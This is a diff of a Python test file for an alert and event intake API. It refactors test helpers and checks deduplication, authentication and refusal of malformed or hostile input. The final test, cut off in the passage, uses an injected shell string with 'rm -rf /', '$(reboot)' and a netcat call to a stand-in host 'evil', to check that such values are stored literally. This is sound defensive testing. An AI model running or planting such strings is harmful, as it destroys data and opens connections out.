@@ -5,29 +5,11 @@ from __future__ import annotations
 
 import copy
 import json
-from pathlib import Path
 
 import pytest
 
-from tests.desk.conftest import auth
-from tests.support import sample
-
-FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "alertmanager"
-"""Real payloads captured from Prometheus and Alertmanager (copied from shared/fixtures)."""
-
-
-def load(name: str) -> dict:
-    return json.loads((FIXTURES / name).read_text())
-
-
-def firing(**labels: str) -> dict:
-    body = copy.deepcopy(load("firing.json"))
-    body["alerts"][0]["labels"].update(labels)
-    return body
-
-
-def stored_events(store) -> list:
-    return store.events.pending(10_000)
+from tests.support.factories import auth, firing, stored_events, webhook_alert, webhook_body
+from tests.support.metrics import sample
 
 
 def accepted(stored: int = 0, duplicates: int = 0, rejected: list | None = None) -> dict:
@@ -40,20 +22,20 @@ def accepted(stored: int = 0, duplicates: int = 0, rejected: list | None = None)
     }
 
 
-def post_raw(desk, path: str, body: dict | list, person: str = "max"):
+def post_raw(desk_client, path: str, body: dict | list, person: str = "max"):
     """Post `body` as ASCII JSON: a lone surrogate goes out as the escape `\\ud800`, as
     Python's encoder writes it for a hostile sender (httpx's own encoder refuses it)."""
-    return desk.post(
+    return desk_client.post(
         path,
         content=json.dumps(body).encode(),
         headers={**auth(person), "content-type": "application/json"},
     )
 
 
-def test_alertmanager_webhook_is_stored_once(desk, store) -> None:
+def test_alertmanager_webhook_is_stored_once(desk_client, store) -> None:
     body = firing()
-    first = desk.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
-    again = desk.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
+    first = desk_client.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
+    again = desk_client.post("/api/v1/events/alertmanager", json=body, headers=auth("max"))
     assert (first.status_code, first.json()) == (202, accepted(stored=1))
     assert (again.status_code, again.json()) == (202, accepted(duplicates=1))
     [event] = stored_events(store)
@@ -62,20 +44,22 @@ def test_alertmanager_webhook_is_stored_once(desk, store) -> None:
     assert event.fingerprint == body["alerts"][0]["fingerprint"]
 
 
-def test_resolved_delivery_is_a_new_event(desk, store) -> None:
-    desk.post("/api/v1/events/alertmanager", json=load("firing.json"), headers=auth("max"))
-    answer = desk.post(
-        "/api/v1/events/alertmanager", json=load("resolved.json"), headers=auth("max")
+def test_resolved_delivery_is_a_new_event(desk_client, store) -> None:
+    desk_client.post(
+        "/api/v1/events/alertmanager", json=webhook_body("firing.json"), headers=auth("max")
+    )
+    answer = desk_client.post(
+        "/api/v1/events/alertmanager", json=webhook_body("resolved.json"), headers=auth("max")
     )
     assert answer.json() == accepted(stored=1)
     assert [e.status for e in stored_events(store)] == ["firing", "resolved"]
 
 
-def test_generic_event_and_list(desk, store) -> None:
+def test_generic_event_and_list(desk_client, store) -> None:
     one = {"source": "backup-script", "host": "web1", "severity": "warning", "summary": "slow"}
-    assert desk.post("/api/v1/events", json=one, headers=auth("max")).status_code == 202
+    assert desk_client.post("/api/v1/events", json=one, headers=auth("max")).status_code == 202
     two = [dict(one, fingerprint="a"), dict(one, fingerprint="b")]
-    assert desk.post("/api/v1/events", json=two, headers=auth("olga")).json()["stored"] == 2
+    assert desk_client.post("/api/v1/events", json=two, headers=auth("olga")).json()["stored"] == 2
     assert len(stored_events(store)) == 3
 
 
@@ -84,8 +68,8 @@ def test_generic_event_and_list(desk, store) -> None:
     [({}, 401), ({"Authorization": "Bearer nobody"}, 401), (auth("rita"), 403)],
     ids=["no-token", "unknown-token", "wrong-role"],
 )
-def test_intake_needs_a_sender(desk, store, headers, status) -> None:
-    answer = desk.post("/api/v1/events/alertmanager", json=firing(), headers=headers)
+def test_intake_needs_a_sender(desk_client, store, headers, status) -> None:
+    answer = desk_client.post("/api/v1/events/alertmanager", json=firing(), headers=headers)
     assert answer.status_code == status
     assert stored_events(store) == []
 
@@ -123,44 +107,46 @@ HOSTILE = [
 
 
 @pytest.mark.parametrize(("case", "mangle", "field"), HOSTILE, ids=[h[0] for h in HOSTILE])
-def test_malformed_bodies_are_refused_naming_the_field(desk, store, case, mangle, field) -> None:
-    answer = desk.post("/api/v1/events/alertmanager", json=mangle(firing()), headers=auth("max"))
+def test_malformed_bodies_are_refused_naming_the_field(
+    desk_client, store, case, mangle, field
+) -> None:
+    answer = desk_client.post(
+        "/api/v1/events/alertmanager", json=mangle(firing()), headers=auth("max")
+    )
     assert answer.status_code == 422, answer.text
     assert field in json.dumps(answer.json()["detail"])
     assert stored_events(store) == []
 
 
-def _alert(**changes: object) -> dict:
-    """The fixture's alert with a fingerprint of its own and `changes` applied; a `labels`
-    change is merged into the alert's labels."""
-    alert = copy.deepcopy(load("firing.json")["alerts"][0])
-    labels = changes.pop("labels", {})
-    alert.update(changes)
-    alert["labels"].update(labels)
-    return alert
-
-
 HOSTILE_ALERTS = [
-    ("far-east-offset-before-year-1", _alert(startsAt="0001-01-01T00:00:00+23:59"), "startsAt"),
-    ("far-west-offset-after-9999", _alert(endsAt="9999-12-31T23:59:59-23:59"), "endsAt"),
-    ("lone-surrogate-label", _alert(labels={"service": "app\ud800"}), "labels.service"),
-    ("lone-surrogate-label-name", _alert(labels={"a\ud800": "x"}), "labels"),
-    ("nul-in-label", _alert(labels={"service": "app\x00"}), "labels.service"),
-    ("nul-in-annotation", _alert(annotations={"summary": "down\x00"}), "annotations.summary"),
+    (
+        "far-east-offset-before-year-1",
+        webhook_alert(startsAt="0001-01-01T00:00:00+23:59"),
+        "startsAt",
+    ),
+    ("far-west-offset-after-9999", webhook_alert(endsAt="9999-12-31T23:59:59-23:59"), "endsAt"),
+    ("lone-surrogate-label", webhook_alert(labels={"service": "app\ud800"}), "labels.service"),
+    ("lone-surrogate-label-name", webhook_alert(labels={"a\ud800": "x"}), "labels"),
+    ("nul-in-label", webhook_alert(labels={"service": "app\x00"}), "labels.service"),
+    (
+        "nul-in-annotation",
+        webhook_alert(annotations={"summary": "down\x00"}),
+        "annotations.summary",
+    ),
 ]
 
 
 @pytest.mark.parametrize(
     ("case", "hostile", "field"), HOSTILE_ALERTS, ids=[h[0] for h in HOSTILE_ALERTS]
 )
-def test_a_bad_alert_costs_only_itself(desk, store, case, hostile, field) -> None:
-    good = [_alert(fingerprint=f"{i:016x}", labels={"host": f"web{i}"}) for i in (1, 2)]
-    body = {**load("firing.json"), "alerts": [good[0], hostile, good[1]]}
+def test_a_bad_alert_costs_only_itself(desk_client, store, case, hostile, field) -> None:
+    good = [webhook_alert(fingerprint=f"{i:016x}", labels={"host": f"web{i}"}) for i in (1, 2)]
+    body = {**webhook_body("firing.json"), "alerts": [good[0], hostile, good[1]]}
 
     refused = {"name": "opsflow_events_rejected_total", "source": "alertmanager"}
-    refused_before = sample(desk.get("/metrics").text, **refused)
+    refused_before = sample(desk_client.get("/metrics").text, **refused)
 
-    answer = post_raw(desk, "/api/v1/events/alertmanager", body)
+    answer = post_raw(desk_client, "/api/v1/events/alertmanager", body)
 
     assert answer.status_code == 202, answer.text
     result = answer.json()
@@ -169,10 +155,10 @@ def test_a_bad_alert_costs_only_itself(desk, store, case, hostile, field) -> Non
     assert rejected["index"] == 1
     assert rejected["reason"].startswith(f"alerts[1].{field}"), rejected
     assert sorted(e.labels["host"] for e in stored_events(store)) == ["web1", "web2"]
-    assert sample(desk.get("/metrics").text, **refused) == refused_before + 1
+    assert sample(desk_client.get("/metrics").text, **refused) == refused_before + 1
 
 
-def test_a_bad_generic_event_costs_only_itself(desk, store) -> None:
+def test_a_bad_generic_event_costs_only_itself(desk_client, store) -> None:
     good = {"source": "backup-script", "host": "web1", "severity": "warning"}
     body = [
         good,
@@ -183,7 +169,7 @@ def test_a_bad_generic_event_costs_only_itself(desk, store) -> None:
         {**good, "fingerprint": "second"},
     ]
 
-    answer = post_raw(desk, "/api/v1/events", body)
+    answer = post_raw(desk_client, "/api/v1/events", body)
 
     assert answer.status_code == 202, answer.text
     result = answer.json()
@@ -211,15 +197,15 @@ NOTHING_USABLE = [
     ("case", "path", "body"), NOTHING_USABLE, ids=[n[0] for n in NOTHING_USABLE]
 )
 def test_a_body_with_nothing_usable_is_refused_with_a_json_detail(
-    desk, store, case, path, body
+    desk_client, store, case, path, body
 ) -> None:
     if case == "every-alert-bad":
-        body = {**load("firing.json"), "alerts": body}
+        body = {**webhook_body("firing.json"), "alerts": body}
     if isinstance(body, bytes | str):
         content = body if isinstance(body, bytes) else body.encode()
     else:
         content = json.dumps(body).encode()
-    answer = desk.post(
+    answer = desk_client.post(
         path, content=content, headers={**auth("max"), "content-type": "application/json"}
     )
     assert answer.status_code == 422, answer.text
@@ -229,8 +215,8 @@ def test_a_body_with_nothing_usable_is_refused_with_a_json_detail(
     assert stored_events(store) == []
 
 
-def test_not_json_is_refused(desk, store) -> None:
-    answer = desk.post(
+def test_not_json_is_refused(desk_client, store) -> None:
+    answer = desk_client.post(
         "/api/v1/events/alertmanager",
         content=b"{not json",
         headers={**auth("max"), "content-type": "application/json"},
@@ -239,8 +225,8 @@ def test_not_json_is_refused(desk, store) -> None:
     assert stored_events(store) == []
 
 
-def test_oversized_body_is_refused_before_reading(desk, store) -> None:
-    answer = desk.post(
+def test_oversized_body_is_refused_before_reading(desk_client, store) -> None:
+    answer = desk_client.post(
         "/api/v1/events",
         content=b"[" + b"1," * 5_000_000 + b"1]",
         headers={**auth("max"), "content-type": "application/json"},
@@ -249,9 +235,9 @@ def test_oversized_body_is_refused_before_reading(desk, store) -> None:
     assert stored_events(store) == []
 
 
-def test_shell_metacharacters_are_stored_literally(desk, store) -> None:
+def test_shell_metacharacters_are_stored_literally(desk_client, store) -> None:
     hostile = "web1; rm -rf / `id` $(reboot) | nc evil 1"
-    answer = desk.post(
+    answer = desk_client.post(
         "/api/v1/events/alertmanager",
         json=firing(host=hostile, service="$(id)"),
         headers=auth("max"),
